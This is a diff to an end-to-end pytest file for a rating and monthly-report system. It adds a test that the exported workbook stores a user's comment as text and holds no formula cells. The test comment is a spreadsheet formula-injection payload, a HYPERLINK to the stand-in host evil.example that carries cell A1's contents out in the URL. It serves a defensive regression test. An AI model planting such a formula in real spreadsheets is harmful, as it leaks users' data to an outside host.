@@ -35,6 +35,8 @@ pytestmark = pytest.mark.e2e
 
 WEIGHTS = {"on_time_rate": 40, "compression": 20, "timely_rate": 20, "satisfaction_rate": 20}
 LATE_FLAG_PENALTY = 2
+# what an enterprise may type: in the workbook it must stay text, never a formula a spreadsheet would run
+COMMENT = '=HYPERLINK("http://evil.example/?x="&A1,"多次补正")'
 
 
 @pytest.fixture(scope="module")
@@ -95,7 +97,7 @@ def scenario(own):
         30,
         "the invitation to rate the zjj item",
     )
-    e01.post("/ratings", json={"invitation_id": invitation["id"], "score": 2, "comment": "多次补正"})
+    e01.post("/ratings", json={"invitation_id": invitation["id"], "score": 2, "comment": COMMENT})
 
     # P02 (of enterprise E02): S1 accepted and left lying until 20 November
     owner = own.login("e02")
@@ -222,6 +224,9 @@ def test_league_table_and_monthly_report_with_workbook(own, scenario):
     assert sorted(r[7] for r in book["超期事项"].iter_rows(min_row=2, values_only=True)) == sorted(
         o["days_overdue"] for o in overdue
     )
+    (comment,) = [c for row in book["差评整改"].iter_rows(min_row=2) for c in row if c.value == COMMENT]
+    assert comment.data_type == "s"  # stored as text: no formula cell anywhere in the workbook
+    assert not [c for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
 
 
 def test_assessment_scores_follow_the_weights(own, scenario):
